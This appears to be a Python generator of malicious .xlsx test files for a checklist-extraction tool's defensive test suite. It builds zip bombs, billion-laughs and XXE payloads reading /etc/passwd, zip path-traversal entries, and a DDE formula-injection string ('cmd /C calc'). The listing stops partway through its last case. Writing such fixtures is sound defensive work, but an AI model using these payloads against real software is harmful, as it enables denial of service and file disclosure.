#!/usr/bin/python3
"""Generates the hostile-input corpus for sechk (issue 7, docs/security.md).

    make_corpus.py small DIR   the small cases, committed under tests/corpus/bad/
    make_corpus.py big DIR     the big and special ones (zip bomb, 20,000 entries,
                               a 50 MB string, a folder named .xlsx, a symlink to
                               /dev/zero, ...), generated at test time
    make_corpus.py list        prints every case with its expected reason

Each run writes DIR/expect.tsv: one line per case, "name<TAB>reason<TAB>options",
where reason is a fragment of the one-line message `sechk extract` must print
and options are extra command-line options for that case ("" for none).
Every case must make `sechk extract` exit 2.  Standard library only; output is
deterministic (fixed timestamps, seeded randomness), so the committed files do
not change when the script is run again.
"""

import os
import random
import struct
import sys
import zlib

DOS_TIME = 0          # 00:00:00
DOS_DATE = (1980 - 1980) << 9 | 1 << 5 | 1  # 1980-01-01

# ---- a zip writer with every field under control ------------------------------


class Entry:
    """One zip entry.  Fields left None are computed from data."""

    def __init__(self, name, data=b"", method=8, **kw):
        self.name = name.encode("utf-8") if isinstance(name, str) else name
        self.data = data.encode("utf-8") if isinstance(data, str) else data
        self.method = method
        self.flags = kw.get("flags", 0x800 if not self.name.isascii() else 0)
        self.raw = kw.get("raw")            # compressed bytes given as is
        self.crc = kw.get("crc")
        self.usize = kw.get("usize")
        self.csize = kw.get("csize")
        self.cd_extra = kw.get("cd_extra", b"")
        self.local_extra = kw.get("local_extra", b"")
        self.cd_usize = kw.get("cd_usize")  # what the central directory claims
        self.cd_csize = kw.get("cd_csize")

    def payload(self):
        if self.raw is not None:
            return self.raw
        if self.method == 0:
            return self.data
        # level 1 for the big ones: level 9 takes most of a minute on 50 MB
        c = zlib.compressobj(9 if len(self.data) < 1 << 20 else 1, zlib.DEFLATED, -15)
        return c.compress(self.data) + c.flush()


def zip_bytes(entries, cd_offset_delta=0, eocd_count=None, comment=b"", alias=None):
    """Builds a zip.  alias maps a central-directory index to the index of an
    earlier entry whose local header it reuses (overlapping entries)."""
    out = bytearray()
    cds = []
    offsets = []
    for i, e in enumerate(entries):
        if alias and i in alias:
            offsets.append(offsets[alias[i]])
            continue
        body = e.payload()
        crc = e.crc if e.crc is not None else zlib.crc32(e.data) & 0xFFFFFFFF
        usize = e.usize if e.usize is not None else len(e.data)
        csize = e.csize if e.csize is not None else len(body)
        e._crc, e._usize, e._csize = crc, usize, csize
        offsets.append(len(out))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, e.flags, e.method, DOS_TIME, DOS_DATE,
                           crc, min(csize, 0xFFFFFFFF), min(usize, 0xFFFFFFFF), len(e.name),
                           len(e.local_extra))
        out += e.name + e.local_extra + body
    cd_start = len(out)
    for i, e in enumerate(entries):
        src = entries[alias[i]] if alias and i in alias else e
        usize = e.cd_usize if e.cd_usize is not None else src._usize
        csize = e.cd_csize if e.cd_csize is not None else src._csize
        out += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, src.flags, src.method, DOS_TIME,
                           DOS_DATE, src._crc, csize, usize, len(e.name), len(e.cd_extra), 0, 0, 0,
                           0, offsets[i])
        out += e.name + e.cd_extra
    cd_size = len(out) - cd_start
    n = len(entries) if eocd_count is None else eocd_count
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_start + cd_offset_delta,
                       len(comment))
    out += comment
    return bytes(out)


# ---- a minimal checklist workbook ------------------------------------------------

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFDOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

CONTENT_TYPES = (
    DECL + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>")

ROOT_RELS = (DECL + f'<Relationships xmlns="{PKG_RELS}">'
             f'<Relationship Id="rId1" Type="{OFFDOC}/officeDocument" Target="xl/workbook.xml"/>'
             "</Relationships>")


def workbook_xml(sheets=(("チェックリスト", "rId1"),), body_extra=""):
    s = "".join(f'<sheet name="{n}" sheetId="{i + 1}" r:id="{rid}"/>' for i, (n, rid) in enumerate(sheets))
    return DECL + f"<workbook {NS} {RNS}>{body_extra}<sheets>{s}</sheets></workbook>"


def workbook_rels(sheet_target="worksheets/sheet1.xml", extra="", strings=True, mode=""):
    r = f'<Relationship Id="rId1" Type="{OFFDOC}/worksheet" Target="{sheet_target}"{mode}/>'
    if strings:
        r += f'<Relationship Id="rId2" Type="{OFFDOC}/sharedStrings" Target="sharedStrings.xml"/>'
    return DECL + f'<Relationships xmlns="{PKG_RELS}">{r}{extra}</Relationships>'


# The header labels the default template matches, and one item.
STRINGS = ["No.", "セキュリティ要件", "外部サービス提供者回答欄", "受託者回答欄",
           "要件の本文", "■適合　備考：なし", "■適合　備考：なし"]


def sst_xml(strings=STRINGS, doctype="", si_override=None):
    items = []
    for i, s in enumerate(strings):
        items.append(si_override.get(i, f"<si><t>{s}</t></si>") if si_override else f"<si><t>{s}</t></si>")
    return (DECL + doctype + f'<sst {NS} count="{len(items)}" uniqueCount="{len(items)}">'
            + "".join(items) + "</sst>")


def sheet_xml(rows=None, doctype="", before="", sheet_data=None):
    if sheet_data is None:
        if rows is None:
            rows = ['<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
                    '<c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row>',
                    '<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="s"><v>4</v></c>'
                    '<c r="C2" t="s"><v>5</v></c><c r="D2" t="s"><v>6</v></c></row>']
        sheet_data = "".join(rows)
    return DECL + doctype + f"<worksheet {NS} {RNS}>{before}<sheetData>{sheet_data}</sheetData></worksheet>"


def parts(**over):
    """The parts of the minimal checklist; keyword arguments replace parts
    (keys: types, root, wb, wbrels, sheet, sst; None drops the part)."""
    p = {"types": ("[Content_Types].xml", CONTENT_TYPES),
         "root": ("_rels/.rels", ROOT_RELS),
         "wb": ("xl/workbook.xml", workbook_xml()),
         "wbrels": ("xl/_rels/workbook.xml.rels", workbook_rels()),
         "sheet": ("xl/worksheets/sheet1.xml", sheet_xml()),
         "sst": ("xl/sharedStrings.xml", sst_xml())}
    for k, v in over.items():
        if v is None:
            p.pop(k)
        else:
            p[k] = (p[k][0], v) if isinstance(v, (str, bytes)) else v
    return p


def book(method=8, **over):
    """The minimal checklist as zip bytes (sechk extract reads it: exit 0)."""
    return zip_bytes([Entry(n, d, method) for n, d in parts(**over).values()])


# ---- hostile payloads ------------------------------------------------------------

LOL = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
       + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                 for i in range(1, 10))
       + "]>\n")
XXE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
XXE_HOST = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>\n'
EXT_DTD = '<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/evil.dtd">\n'
PARAM = '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>\n'
# A comment long enough to push a DOCTYPE past the first 4 KiB, where the
# byte-level prolog scan stops; the reader-level check must still refuse it.
PAD = "<!--" + "x" * 5000 + "-->\n"
DOCTYPE_MSG = "DOCTYPE is not allowed"


def deflate_repeated(unit, times, chunk_units=1 << 18):
    """Raw deflate of unit*times without materialising it: one chunk of
    chunk_units units, compressed after a full flush, repeats byte for byte.
    Returns (deflate bytes, crc32, size)."""
    chunk = unit * chunk_units
    assert times % chunk_units == 0
    n = times // chunk_units
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    co2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    again = co2.compress(chunk) + co2.flush(zlib.Z_FULL_FLUSH)
    assert block == again
    crc = 0
    for _ in range(n):
        crc = zlib.crc32(chunk, crc)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # the final empty block
    return block * n + end, crc & 0xFFFFFFFF, len(chunk) * n


def deflate_parts(prefix, unit, times, suffix):
    """Deflate of prefix + unit*times + suffix with the repeated middle."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = co.compress(prefix) + co.flush(zlib.Z_FULL_FLUSH)
    mid, crc_mid, size_mid = deflate_repeated(unit, times)
    mid = mid[:-len(zlib.compressobj(9, zlib.DEFLATED, -15).flush())]
    tail_co = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = tail_co.compress(suffix) + tail_co.flush()
    crc = zlib.crc32(prefix)
    chunk = unit * (1 << 18)
    for _ in range(size_mid // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(suffix, crc) & 0xFFFFFFFF
    return head + mid + tail, crc, len(prefix) + size_mid + len(suffix)


def cfb(kind):
    """A well-formed CFB (OLE2) file, version 3 with 512-byte sectors, whose
    root holds the streams of an encrypted package (an Agile EncryptionInfo
    header, 4096 bytes, and an empty EncryptedPackage) or of a BIFF8 workbook
    (an empty Workbook stream)."""
    end, free, fatsect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    info = (struct.pack("<HHI", 4, 4, 0x40) + bytes(4088)) if kind == "enc" else b""
    n_info = len(info) // 512
    hdr = bytearray(512)
    hdr[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", hdr, 24, 0x3E, 3, 0xFFFE, 9, 6)
    # FAT sectors, directory sector, transaction, mini cutoff, mini FAT, DIFAT
    struct.pack_into("<IIIIIIII", hdr, 44, 1, 1, 0, 0x1000, end, 0, end, 0)
    struct.pack_into("<I", hdr, 76, 0)
    for i in range(1, 109):
        struct.pack_into("<I", hdr, 76 + 4 * i, free)
    # sector 0: the FAT; 1: the directory; 2..: EncryptionInfo
    fat = [fatsect, end] + [3 + i if i + 1 < n_info else end for i in range(n_info)]
    fat += [free] * (128 - len(fat))
    streams = ([("EncryptionInfo", 2, len(info)), ("EncryptedPackage", end, 0)] if kind == "enc"
               else [("Workbook", end, 0)])
    d = bytearray()
    entries = [("Root Entry", 5, 1, end, 0)]
    for k, (nm, start, size) in enumerate(streams):
        entries.append((nm, 2, nostream, start, size))
    for k, (nm, typ, child, start, size) in enumerate(entries):
        e = bytearray(128)
        u = nm.encode("utf-16-le")
        e[0:len(u)] = u
        # streams chained through their right siblings: 1 -> 2 -> ...
        right = k + 1 if 0 < k < len(entries) - 1 else nostream
        struct.pack_into("<HBBIII", e, 64, len(u) + 2, typ, 1, nostream, right, child)
        struct.pack_into("<II", e, 116, start, size)
        d += e
    d += bytes(512 - len(d) % 512)
    return bytes(hdr) + struct.pack("<128I", *fat) + bytes(d) + info


# ---- the cases ---------------------------------------------------------------------

CASES = []


def case(name, reason, size="small", opts=""):
    def deco(fn):
        CASES.append((name, reason, size, opts, fn))
        return fn
    return deco


def simple(name, reason, data, size="small", opts=""):
    CASES.append((name, reason, size, opts, lambda path: write(path, data() if callable(data) else data)))


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


# -- what the file is
simple("empty.xlsx", "empty file", b"")
simple("text.xlsx", "not a zip file", "これはテキストです。\nNot a workbook.\n".encode())
simple("truncated.xlsx", "end of central directory", lambda: book()[:700])
simple("truncated-cdir.xlsx", "truncated", lambda: book()[:-30])
simple("empty-zip.xlsx", "an empty zip archive", zip_bytes([]))
simple("no-workbook.xlsx", "no workbook part",
       lambda: zip_bytes([Entry("readme.txt", "hello"), Entry("data/x.csv", "a,b\n")]))
simple("cfb-encrypted.xlsx", "a password-protected workbook (Agile encryption)", lambda: cfb("enc"))
simple("legacy-xls.xlsx", "an Excel 97-2003 workbook (.xls)", lambda: cfb("xls"))
simple("ods-renamed.xlsx", "an OpenDocument spreadsheet (.ods)",
       lambda: zip_bytes([Entry("mimetype", "application/vnd.oasis.opendocument.spreadsheet", 0),
                          Entry("content.xml", DECL + "<office:document-content/>"),
                          Entry("META-INF/manifest.xml", DECL + "<manifest/>")]))
simple("docx-renamed.xlsx", "a Word document (.docx)",
       lambda: zip_bytes([Entry("[Content_Types].xml", CONTENT_TYPES),
                          Entry("_rels/.rels", ROOT_RELS.replace("xl/workbook.xml", "word/document.xml")),
                          Entry("word/document.xml", DECL + "<w:document/>")]))
simple("xlsb-renamed.xlsx", "binary Excel workbook (.xlsb)",
       lambda: zip_bytes([Entry("[Content_Types].xml", CONTENT_TYPES),
                          Entry("_rels/.rels", ROOT_RELS.replace("workbook.xml", "workbook.bin")),
                          Entry("xl/workbook.bin", b"\x83\x01\x00")]))
simple("missing-sheet.xlsx", "which is missing from the zip",
       lambda: book(wbrels=workbook_rels(sheet_target="worksheets/sheet9.xml")))
simple("no-sheet-rel.xlsx", "which the workbook does not define",
       lambda: book(wb=workbook_xml(sheets=(("S", "rId7"),))))

# -- the zip container
simple("dotdot-name.xlsx", "contains \"..\"",
       lambda: zip_bytes([Entry(n, d) for n, d in parts().values()]
                         + [Entry("../../../../tmp/sechk-evil.sh", "#!/bin/sh\necho pwned\n")]))
simple("absolute-name.xlsx", "is an absolute path",
       lambda: zip_bytes([Entry(n, d) for n, d in parts().values()] + [Entry("/etc/passwd", "root::0:0::/:")]))
simple("duplicate-name.xlsx", "appears twice",
       lambda: zip_bytes([Entry(n, d) for n, d in parts().values()]
                         + [Entry("xl/worksheets/sheet1.xml", sheet_xml(sheet_data=""))]))
simple("case-collision.xlsx", "differ only in letter case",
       lambda: zip_bytes([Entry(n, d) for n, d in parts().values()]
                         + [Entry("XL/Workbook.xml", workbook_xml(sheets=(("Other", "rId1"),)))]))
simple("nul-in-name.xlsx", "NUL byte",
       lambda: zip_bytes([Entry(n, d) for n, d in parts().values()] + [Entry(b"xl/a\x00.xml", "x")]))
simple("overlap.xlsx", "overlap",
       lambda: zip_bytes([Entry(n, d) for n, d in parts().values()] + [Entry("xl/media/copy.xml", "")],
                         alias={6: 4}))
simple("method-bzip2.xlsx", "compression method 12",
       lambda: zip_bytes([Entry(n, d, 12 if n.endswith("sheet1.xml") else 8, raw=zlib.compress(d.encode()))
                          for n, d in parts().values()]))
simple("encrypted-entry.xlsx", "is encrypted",
       lambda: zip_bytes([Entry(n, d, flags=1 if n.endswith("sheet1.xml") else 0) for n, d in parts().values()]))
simple("bad-crc-stored.xlsx", "fails its CRC check",
       lambda: zip_bytes([Entry(n, d, 0, crc=0x12345678 if n.endswith("sheet1.xml") else None)
                          for n, d in parts().values()]))
simple("bad-crc-deflated.xlsx", "fails its CRC check",
       lambda: zip_bytes([Entry(n, d, 8, crc=0x12345678 if n.endswith("sheet1.xml") else None)
                          for n, d in parts().values()]))
simple("deflate-cut.xlsx", "is cut short",
       lambda: zip_bytes([Entry(n, d, 8, raw=Entry(n, d).payload()[:-40]) if n.endswith("sheet1.xml")
                          else Entry(n, d) for n, d in parts().values()]))
simple("deflate-garbage.xlsx", "invalid deflate data",
       lambda: zip_bytes([Entry(n, d, 8, raw=b"\xff" * 64) if n.endswith("sheet1.xml")
                          else Entry(n, d) for n, d in parts().values()]))
simple("cdir-outside.xlsx", "central directory lies outside the file",
       lambda: zip_bytes([Entry(n, d) for n, d in parts().values()], cd_offset_delta=1 << 20))
simple("eocd-count-lies.xlsx", "does not match its entries",
       lambda: zip_bytes([Entry(n, d) for n, d in parts().values()], eocd_count=3))


def zip64_extra(*vals):
    return struct.pack("<HH", 1, 8 * len(vals)) + b"".join(struct.pack("<Q", v) for v in vals)


# zip64: the central directory saturates the sizes and the zip64 extra field
# gives a compressed size far beyond the file.
simple("zip64-lying-csize.xlsx", "extends beyond the data area",
       lambda: zip_bytes([Entry(n, d, cd_usize=0xFFFFFFFF, cd_csize=0xFFFFFFFF,
                                cd_extra=zip64_extra(len(d.encode()), 1 << 40))
                          if n.endswith("sheet1.xml") else Entry(n, d) for n, d in parts().values()]))
def _zip64_offset():
    """zip64: the sheet's central record saturates its offset and the zip64
    extra field points far past the end of the file."""
    name = b"xl/worksheets/sheet1.xml"
    z = bytearray(zip_bytes([Entry(n, d, cd_extra=zip64_extra(1 << 50)) if n.endswith("sheet1.xml")
                             else Entry(n, d) for n, d in parts().values()]))
    p = 0
    while True:
        p = z.find(b"PK\x01\x02", p)
        nlen = struct.unpack_from("<H", z, p + 28)[0]
        if z[p + 46:p + 46 + nlen] == name:
            break
        p += 4
    struct.pack_into("<I", z, p + 42, 0xFFFFFFFF)
    return bytes(z)


simple("zip64-lying-offset.xlsx", "lies outside the file", _zip64_offset)


# -- XML: DOCTYPE, entities
simple("lol-strings.xlsx", DOCTYPE_MSG, lambda: book(sst=sst_xml(doctype=LOL, si_override={5: "<si><t>&lol9;</t></si>"})))
simple("lol-sheet.xlsx", DOCTYPE_MSG,
       lambda: book(sheet=sheet_xml(doctype=LOL).replace('<c r="A1" t="s"><v>0</v></c>',
                                                         '<c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c>')))
simple("lol-workbook.xlsx", DOCTYPE_MSG,
       lambda: book(wb=workbook_xml().replace("<workbook ", LOL + "<workbook ").replace("<sheets>", "<x>&lol9;</x><sheets>")))
simple("xxe-strings.xlsx", DOCTYPE_MSG, lambda: book(sst=sst_xml(doctype=XXE, si_override={5: "<si><t>&xxe;</t></si>"})))
simple("xxe-sheet.xlsx", DOCTYPE_MSG,
       lambda: book(sheet=sheet_xml(doctype=XXE).replace('<c r="C2" t="s"><v>5</v></c>',
                                                         '<c r="C2" t="inlineStr"><is><t>&xxe;</t></is></c>')))
simple("xxe-workbook.xlsx", DOCTYPE_MSG,
       lambda: book(wb=workbook_xml().replace("<workbook ", XXE + "<workbook ").replace("<sheets>", "<x>&xxe;</x><sheets>")))
simple("xxe-rels.xlsx", DOCTYPE_MSG,
       lambda: book(wbrels=workbook_rels().replace("<Relationships ", XXE_HOST + "<Relationships ")))
simple("xxe-param.xlsx", DOCTYPE_MSG, lambda: book(sst=sst_xml(doctype=PARAM)))
simple("external-dtd.xlsx", DOCTYPE_MSG, lambda: book(sheet=sheet_xml(doctype=EXT_DTD)))
simple("xxe-late-strings.xlsx", DOCTYPE_MSG,
       lambda: book(sst=sst_xml(doctype=PAD + XXE, si_override={5: "<si><t>&xxe;</t></si>"})))
simple("lol-late-sheet.xlsx", DOCTYPE_MSG,
       lambda: book(sheet=sheet_xml(doctype=PAD + LOL).replace('<c r="C2" t="s"><v>5</v></c>',
                                                               '<c r="C2" t="inlineStr"><is><t>&lol9;</t></is></c>')))
simple("xxe-utf16.xlsx", DOCTYPE_MSG,
       lambda: book(sst=b"\xff\xfe" + sst_xml(doctype=XXE, si_override={5: "<si><t>&xxe;</t></si>"})
                    .replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")))
simple("undeclared-entity.xlsx", "Entity 'nope' not defined",
       lambda: book(sst=sst_xml(si_override={5: "<si><t>&nope;</t></si>"})))
simple("ns-scope-300.xlsx", "more than 256 XML namespace declarations in scope",
       lambda: book(sheet=sheet_xml(before="".join(
           "<e%d %s>" % (d, " ".join(f'xmlns:p{d}_{i}="urn:{i}"' for i in range(100))) for d in range(3))
           + "</e2></e1></e0>")))
simple("deep-200k.xlsx", "deeper than 256",
       lambda: book(sheet=sheet_xml(before="<a>" * 200000 + "</a>" * 200000)))
simple("malformed-sheet.xlsx", "malformed XML", lambda: book(sheet=sheet_xml()[:-30]))
# bytes that are not Shift_JIS in a part that declares it: libxml2's
# converter reports on its generic channel, which must not reach stderr
CASES.append(("encoding-invalid.xlsx", "not in its declared encoding", "small", "",
              lambda path: write(path, book(sst=sst_xml().replace('encoding="UTF-8"', 'encoding="Shift_JIS"')
                                            .encode().replace(b"<t>", b"<t>\xf8\x7a\x78\x3e", 1)))))
simple("invalid-utf8.xlsx", "UTF-8",
       lambda: book(sst=sst_xml().encode().replace("要件の本文".encode(), b"\xff\xfe\xc0\xaf")))
simple("invalid-utf8-surrogate.xlsx", "Char 0xD800 out of allowed range",
       lambda: book(sheet=sheet_xml().replace('<c r="C2" t="s"><v>5</v></c>',
                                              '<c r="C2" t="inlineStr"><is><t>X</t></is></c>').encode()
                    .replace(b"<t>X</t>", b"<t>\xed\xa0\x80\xed\xbf\xbf</t>")))
simple("invalid-utf8-overlong.xlsx", "UTF-8",
       lambda: book(wb=workbook_xml().encode().replace("チェックリスト".encode(), b"\xc0\xaf\xe0\x80\xaf")))

# -- cells and shared strings
simple("sst-index-out-of-range.xlsx", "out of range (the workbook has 7)",
       lambda: book(sheet=sheet_xml().replace('<c r="C2" t="s"><v>5</v>', '<c r="C2" t="s"><v>999</v>')))
simple("sst-index-huge.xlsx", "shared strings allowed (limit --max-strings)",
       lambda: book(sheet=sheet_xml().replace('<c r="C2" t="s"><v>5</v>', '<c r="C2" t="s"><v>4000000000</v>')))
simple("sst-index-overflow.xlsx", "is invalid",
       lambda: book(sheet=sheet_xml().replace('<c r="C2" t="s"><v>5</v>', '<c r="C2" t="s"><v>4294967296</v>')))
simple("sst-index-negative.xlsx", "shared string index \"-1\" is invalid",
       lambda: book(sheet=sheet_xml().replace('<c r="C2" t="s"><v>5</v>', '<c r="C2" t="s"><v>-1</v>')))
simple("no-sst-part.xlsx", "out of range", lambda: book(sst=None, wbrels=workbook_rels(strings=False)))
simple("ref-xfe1.xlsx", "outside A1:XFD1048576",
       lambda: book(sheet=sheet_xml().replace('<c r="D1" ', '<c r="XFE1" ')))
simple("ref-a1048577.xlsx", "outside A1:XFD1048576",
       lambda: book(sheet=sheet_xml().replace('<c r="D2" ', '<c r="A1048577" ')))
simple("ref-a0.xlsx", "outside A1:XFD1048576", lambda: book(sheet=sheet_xml().replace('<c r="A1" ', '<c r="A0" ')))
simple("ref-huge-col.xlsx", "outside A1:XFD1048576",
       lambda: book(sheet=sheet_xml().replace('<c r="A1" ', '<c r="AAAAAAAAAAAAAAAAAAAAAAAAAA1" ')))
simple("row-0.xlsx", "is outside 1..1048576", lambda: book(sheet=sheet_xml().replace('<row r="1">', '<row r="0">')))
simple("row-beyond-grid.xlsx", "is outside 1..1048576",
       lambda: book(sheet=sheet_xml().replace('<row r="2">', '<row r="99999999999999999999">')))
simple("row-100k-columns.xlsx", "after column XFD",
       lambda: book(sheet=sheet_xml(sheet_data='<row r="1">' + "<c><v>1</v></c>" * 100000 + "</row>")))
simple("formula-only.xlsx", "no checklist header row",
       lambda: book(sheet=sheet_xml(sheet_data="".join(
           f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><f>HYPERLINK("http://x/"&amp;{c}{r},"=cmd|\' /C calc\'!A0")</f></c>'
                                       for c in "ABCD") + "</row>" for r in range(1, 50)))))
simple("unknown-cell-type.xlsx", "unknown cell type",
       lambda: book(sheet=sheet_xml().replace('<c r="B2" t="s">', '<c r="B2" t="zz">')))
simple("merge-beyond-grid.xlsx", "merged range",
       lambda: book(sheet=sheet_xml().replace("</sheetData>", '</sheetData><mergeCells><mergeCell ref="A1:XFE2"/></mergeCells>')))
simple("sheets-2000.xlsx", "more than 1000 sheets (limit --max-sheets)",
       lambda: book(wb=workbook_xml(sheets=[(f"S{i}", "rId1") for i in range(2000)])))
simple("rels-outside.xlsx", "points outside the package",
       lambda: book(wbrels=workbook_rels(sheet_target="../../../../etc/passwd")))
simple("rels-external.xlsx", "points outside the package",
       lambda: book(wbrels=workbook_rels(sheet_target="file:///etc/passwd", mode=' TargetMode="External"')))
simple("rels-url.xlsx", "missing from the zip",
       lambda: book(wbrels=workbook_rels(sheet_target="http://127.0.0.1:9/sheet1.xml")))
simple("markers-257.xlsx", "more than 256 checkbox characters",
       lambda: book(sst=sst_xml(si_override={5: "<si><t>" + "■" * 257 + "</t></si>"})))
simple("text-bomb-ratio.xlsx", "(limit --max-ratio)",
       lambda: _bomb("xl/sharedStrings.xml", (DECL + f"<sst {NS}><si><t>").encode(), b"A", 1 << 23,
                     b"</t></si></sst>"))
simple("string-2mib.xlsx", "longer than 1048576 bytes (limit --max-string-bytes)", size="big",
       data=lambda: book(sst=sst_xml(si_override={5: "<si><t>" + _noise(2 << 20) + "</t></si>"})))
simple("inline-2mib.xlsx", "longer than 1048576 bytes (limit --max-string-bytes)", size="big",
       data=lambda: book(sheet=sheet_xml().replace('<c r="C2" t="s"><v>5</v></c>',
                                              '<c r="C2" t="inlineStr"><is><t>' + _noise(2 << 20) + "</t></is></c>")))


def _noise(n, seed=7):
    """n letters of low-entropy noise (4 symbols: deflate gets about 4:1,
    well under the ratio limit)."""
    r = random.Random(seed)
    return r.randbytes(n).translate(bytes(b"ACGT"[i & 3] for i in range(256))).decode()


def _bomb(part, prefix, unit, times, suffix, extra_parts=None):
    raw, crc, size = deflate_parts(prefix, unit, times, suffix)
    es = []
    for n, d in parts().values():
        if n == part:
            es.append(Entry(n, b"", 8, raw=raw, crc=crc, usize=size))
        else:
            es.append(Entry(n, d))
    return zip_bytes(es + (extra_parts or []))


# -- big ones, generated at test time
CASES.append(("bomb-3gib.xlsx", "(limit --max-ratio)", "big", "",
              lambda path: write(path, _bomb("xl/worksheets/sheet1.xml",
                                             (DECL + f"<worksheet {NS}>").encode(), b"<x/>", 3 << 28,
                                             b"<sheetData/></worksheet>"))))
# the same bomb with the ratio check off: the per-entry limit stops it (set
# low here: parsing 256 MiB of XML takes seconds)
CASES.append(("bomb-3gib-noratio.xlsx", "(limit --max-entry-bytes)", "big",
              "--max-ratio 4294967295 --max-entry-bytes 16777216",
              lambda path: os.link(path.replace("-noratio", ""), path)))
# five sheets of 16 MiB each: with the ratio check off, the total limit
# stops them (each entry stays under the per-entry limit)
CASES.append(("bomb-total.xlsx", "(limit --max-total-bytes)", "big",
              "--max-ratio 4294967295 --max-total-bytes 50000000",
              lambda path: write(path, _bomb_total())))


def _bomb_total():
    raw, crc, size = deflate_parts((DECL + f"<worksheet {NS}>").encode(), b"<x/>", 16 << 18,
                                   b"<sheetData/></worksheet>")
    es = [Entry(n, d) for n, d in parts(sheet=None).values()]
    names = [f"S{i}" for i in range(5)]
    wb = workbook_xml(sheets=[(n, f"rId{10 + i}") for i, n in enumerate(names)])
    rels = workbook_rels(extra="".join(
        f'<Relationship Id="rId{10 + i}" Type="{OFFDOC}/worksheet" Target="worksheets/s{i}.xml"/>'
        for i in range(5)))
    es = [e if not e.name.endswith(b"workbook.xml") else Entry(e.name, wb) for e in es]
    es = [e if not e.name.endswith(b"workbook.xml.rels") else Entry(e.name, rels) for e in es]
    for i in range(5):
        es.append(Entry(f"xl/worksheets/s{i}.xml", b"", 8, raw=raw, crc=crc, usize=size))
    return zip_bytes(es)


# one 870 KB string of checkboxes and text shared by the 72 answer cells of
# 36 items: without the cap on checkboxes per cell, 4 GB of memory and
# 600 MB of JSON (a finding and an option entry per extra checkbox)
CASES.append(("markers-shared-36-items.xlsx", "more than 256 checkbox characters", "big", "",
              lambda path: write(path, _markers_shared())))


def _markers_shared():
    r = random.Random(1)
    big = "".join(r.choice("■□適合その他備考：（）あいうえおabc 　\n") for _ in range(340000))
    rows = ['<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c>'
            '<c r="C1" t="s"><v>2</v></c><c r="D1" t="s"><v>3</v></c></row>']
    for i in range(1, 37):
        rw = i + 1
        rows.append(f'<row r="{rw}"><c r="A{rw}"><v>{i}</v></c><c r="B{rw}" t="s"><v>4</v></c>'
                    f'<c r="C{rw}" t="s"><v>5</v></c><c r="D{rw}" t="s"><v>5</v></c></row>')
    return book(sheet=sheet_xml(rows=rows), sst=sst_xml(strings=STRINGS[:5] + [big, "x"]))


CASES.append(("entries-20000.xlsx", "more than 10000 (limit --max-entries)", "big", "",
              lambda path: write(path, zip_bytes([Entry(n, d) for n, d in parts().values()]
                                                 + [Entry(f"xl/media/i{i}.bin", b"", 0) for i in range(20000)]))))
CASES.append(("string-50mb.xlsx", "longer than 1048576 bytes (limit --max-string-bytes)", "big", "",
              lambda path: write(path, book(sst=sst_xml(si_override={5: "<si><t>" + _noise(50_000_000) + "</t></si>"})))))
# 50 MB of text where no value is read: the XML layer's own text limit
CASES.append(("text-50mb-unread.xlsx", "longer than 10000000 bytes (a fixed limit)", "big", "",
              lambda path: write(path, book(sheet=sheet_xml(before="<sheetPr>" + _noise(50_000_000) + "</sheetPr>")))))
CASES.append(("attr-storm-200k.xlsx", "attributes", "big", "",
              lambda path: write(path, book(sheet=sheet_xml().replace(
                  "<worksheet ", "<worksheet " + " ".join(f'a{i}="{i}"' for i in range(200000)) + " ")))))
# 250 nested elements declaring 250 namespaces each, then 250,000 leaves:
# libxml2 2.9 searches the namespaces in scope for every element (10 s)
CASES.append(("ns-storm.xlsx", "namespace declarations in scope", "big", "",
              lambda path: write(path, book(sheet=sheet_xml(before="".join(
                  "<e%d %s>" % (d, " ".join(f'xmlns:p{d}_{i}="u:{i}"' for i in range(250))) for d in range(250))
                  + "<x/>" * 250000 + "".join("</e%d>" % d for d in reversed(range(250))))))))
CASES.append(("million-empty-cells.xlsx", "no checklist header row", "big", "",
